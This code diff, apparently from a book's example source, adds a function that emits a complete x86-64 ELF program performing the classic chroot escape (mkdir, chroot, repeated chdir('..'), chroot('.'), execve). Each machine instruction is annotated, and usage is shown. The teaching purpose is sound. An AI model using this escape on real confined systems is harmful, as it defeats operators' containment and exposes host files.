@@ -134,6 +134,56 @@ def syscall_program(number: int, *args: int) -> bytes:
 # [/book:euid-program]
 
 
+# [book:chroot-escape]
+def chroot_escape_program() -> bytes:
+    """A complete program, 228 bytes: the classic escape from a chroot, then
+    ``execve(argv[1], argv + 1)`` wherever it got out to.
+
+    chroot(2) does not change the working directory, and ".." stops only at
+    the root. So: make a directory, chroot into it while the working
+    directory stays above it, and climb: no step of the climb is the root
+    any more, and 64 steps reach the top of whatever filesystem tree there
+    is. chroot(".") makes that the root. Run as ``escape /bin/cat /etc/os-release``:
+    in a plain chroot it prints the host's file. (busybox's ``chroot``
+    applet cannot do this: it changes into the new root itself.)
+    """
+    return static_elf(bytes.fromhex(
+        "4889e5"        # mov rbp, rsp         keep argv's place: the pushes below move rsp
+        "686a61696c"    # push "jail"          the name, on the stack, NUL-padded
+        "4889e7"        # mov rdi, rsp
+        "beed010000"    # mov esi, 0o755
+        "b853000000"    # mov eax, 83          mkdir("jail", 0755), below the working directory
+        "0f05"          # syscall              (if it exists already, fine)
+        "4889e7"        # mov rdi, rsp
+        "b8a1000000"    # mov eax, 161         chroot("jail"): the root moves down into it,
+        "0f05"          # syscall              the working directory stays where it was
+        "85c0"          # test eax, eax
+        "753c"          # jnz fail             (no CAP_SYS_CHROOT: exit with the errno)
+        "682e2e0000"    # push ".."
+        "bb40000000"    # mov ebx, 64
+        "4889e7"        # climb: mov rdi, rsp
+        "b850000000"    # mov eax, 80          chdir(".."): never at the root, so never stopped,
+        "0f05"          # syscall              up to the top of the tree: the host's "/"
+        "ffcb"          # dec ebx
+        "75f2"          # jnz climb
+        "6a2e"          # push "."
+        "4889e7"        # mov rdi, rsp
+        "b8a1000000"    # mov eax, 161         chroot("."): the top is our root again
+        "0f05"          # syscall
+        "488b4500"      # mov rax, [rbp]       argc
+        "488b7d10"      # mov rdi, [rbp+16]    argv[1]: the program to run out there
+        "488d7510"      # lea rsi, [rbp+16]    &argv[1]: its argv
+        "488d54c510"    # lea rdx, [rbp+rax*8+16]  envp, after argv's NULL
+        "b83b000000"    # mov eax, 59          execve
+        "0f05"          # syscall              returns only on failure, with -errno
+        "89c7"          # fail: mov edi, eax
+        "f7df"          # neg edi              -errno -> errno
+        "b83c000000"    # mov eax, 60          exit
+        "0f05"          # syscall
+    ))
+# [/book:chroot-escape]
+
+
 T = TypeVar("T")
 
 
